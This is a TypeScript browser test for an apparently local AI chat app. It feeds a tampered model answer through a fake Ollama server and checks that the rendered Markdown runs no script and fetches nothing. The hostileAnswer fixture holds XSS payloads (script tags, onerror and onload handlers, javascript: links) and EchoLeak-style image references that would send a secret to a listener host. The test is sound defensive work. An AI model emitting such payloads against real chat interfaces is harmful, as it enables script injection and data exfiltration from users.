import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { launchChromium, startFakeOllama } from '@alfred/testkit'
import { expect, it } from 'vitest'
import { startAlfred } from './alfred-process.ts'

/** A server that an answer tries to send something to. */
async function startListener(): Promise<
  AsyncDisposable & { readonly origin: string; readonly asked: string[] }
> {
  const asked: string[] = []
  const server = createServer((request, response) => {
    asked.push(request.url ?? '')
    response.end()
  }).listen(0, '127.0.0.1')
  await once(server, 'listening')
  return {
    origin: `http://127.0.0.1:${String((server.address() as AddressInfo).port)}`,
    asked,
    async [Symbol.asyncDispose]() {
      server.closeAllConnections()
      server.close()
      await once(server, 'close')
    },
  }
}

/** What a tampered answer may hold: EchoLeak's image by reference (CVE-2025-32711), links that run and markup that does. */
const hostileAnswer = (origin: string): string => `# Result

![status][leak] ![direct](${origin}/direct?s=secret) <img src="${origin}/html?s=secret" onerror="window.ran = 1">

[run](javascript:window.ran=2) [there](${origin}/link) <a href="javascript:window.ran=3">x</a>

<script>window.ran = 4</script><svg onload="window.ran = 5"></svg>

\`\`\`html
<script>alert(1)</script> & <b>
\`\`\`

[leak]: ${origin}/reference?s=secret`

it('shows a hostile answer as Markdown that runs and fetches nothing', { timeout: 120_000 }, async () => {
  await using listener = await startListener()
  await using ollama = await startFakeOllama({ answer: hostileAnswer(listener.origin) })
  await using alfred = await startAlfred({ env: { OLLAMA_HOST: ollama.baseUrl } })
  const browser = await launchChromium()
  try {
    const page = await browser.newPage()
    const problems: string[] = []
    page.on('pageerror', ({ message }) => problems.push(message))
    page.on('console', (message) => {
      if (message.type() === 'error') problems.push(message.text())
    })
    await page.goto(alfred.url)
    await page.fill('#message', 'Show the status')
    await page.click('#send')
    const answer = page.locator('.turn.assistant:not([aria-busy])')
    await answer.waitFor({ timeout: 60_000 })

    expect(await answer.locator('h1').textContent()).toBe('Result')
    expect(await answer.locator('pre code').textContent()).toBe('<script>alert(1)</script> & <b>\n')
    expect(await answer.locator('img, script, svg, [onload], [onerror], [style]').count()).toBe(0)
    const links = answer.locator('a')
    expect(await links.evaluateAll((found) => found.map((link) => link.getAttribute('href')))).toEqual([
      `${listener.origin}/link`,
    ])
    for (const link of await answer.locator('a:not([href]), p').all()) await link.click()
    // The same once more from the history.
    await page.reload()
    await page.locator('.turn.assistant h1').waitFor()
    expect(await page.evaluate('window.ran')).toBeUndefined()
    expect(listener.asked).toEqual([])
    expect(problems).toEqual([])
  } finally {
    await browser.close()
  }
})
